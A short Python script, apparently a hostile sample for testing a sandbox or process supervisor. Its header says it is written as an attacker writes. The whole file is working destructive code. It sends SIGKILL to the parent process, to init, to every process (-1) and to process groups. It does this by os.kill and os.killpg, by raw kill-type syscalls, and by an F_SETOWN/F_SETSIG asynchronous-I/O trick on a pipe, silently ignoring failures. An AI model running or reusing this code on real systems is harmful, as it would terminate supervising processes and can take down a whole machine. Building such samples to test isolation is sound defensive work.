# ruff: noqa  # written as an attacker writes
"""SIGKILL to the parent, to process 1, to every process and group, and by asynchronous input."""

# honest: all
# keeps: all
# %%honest all
# %%
import ctypes
import fcntl
import os
import signal

libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1, 2, -1, 0, -os.getppid()):
    for kill in (lambda: os.kill(pid, 9), lambda: os.killpg(abs(pid), 9)):
        try:
            kill()
        except OSError:
            pass
    for call in ((200, pid, 9), (234, pid, pid, 9), (129, pid, 9, None), (424, 3, 9, None, 0)):
        libc.syscall(*call)
reader, writer = os.pipe()
for pid in (os.getppid(), 1, 2):
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reader, 10, 9)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    except OSError:
        pass
